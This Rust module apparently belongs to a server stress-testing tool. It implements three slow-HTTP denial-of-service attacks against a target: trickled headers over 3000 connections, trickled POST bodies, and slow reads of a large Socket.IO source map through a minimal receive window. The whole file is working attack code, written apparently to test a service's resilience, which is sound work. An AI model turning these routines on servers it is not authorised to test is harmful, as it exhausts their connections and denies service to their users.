//! Attackers that take their time.

use std::io;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::sleep;

use super::{Tally, Target, hold, read_on};

const BETWEEN_BYTES: Duration = Duration::from_secs(1);
/// Smallest receive buffer that Linux gives.
const WINDOW: u32 = 2304;
/// A file that Socket.IO serves, and whose query looks like a handshake's.
const LARGE: &str = "/socket.io/socket.io.js.map?EIO=4&transport=polling";

pub(super) async fn heads(target: Target) -> String {
    let tally = hold(target, target.door, 3000, None, async |stream: TcpStream, _: &Tally| {
        trickle(stream, "GET /healthz HTTP/1.1\r\nHost: a\r\nX-Slow: ").await
    });
    tally.await.held()
}

pub(super) async fn bodies(target: Target) -> String {
    let tally = hold(target, target.door, 1000, None, async |stream: TcpStream, _: &Tally| {
        trickle(stream, "POST /healthz HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n").await
    });
    tally.await.held()
}

pub(super) async fn readers(target: Target) -> String {
    let tally = hold(target, target.door, 1000, Some(WINDOW), async |mut stream: TcpStream, _: &Tally| {
        stream.write_all(format!("GET {LARGE} HTTP/1.1\r\nHost: a\r\n\r\n").as_bytes()).await?;
        std::future::pending().await
    });
    tally.await.held()
}

/// Sends `start`, then a byte a second until the other side ends the connection.
async fn trickle(mut stream: TcpStream, start: &str) -> io::Result<()> {
    stream.write_all(start.as_bytes()).await?;
    let (mut reads, mut writes) = stream.split();
    let writing = async {
        loop {
            sleep(BETWEEN_BYTES).await;
            writes.write_all(b"a").await?;
        }
    };
    tokio::select! {
        ended = read_on(&mut reads) => ended,
        failed = writing => failed,
    }
}
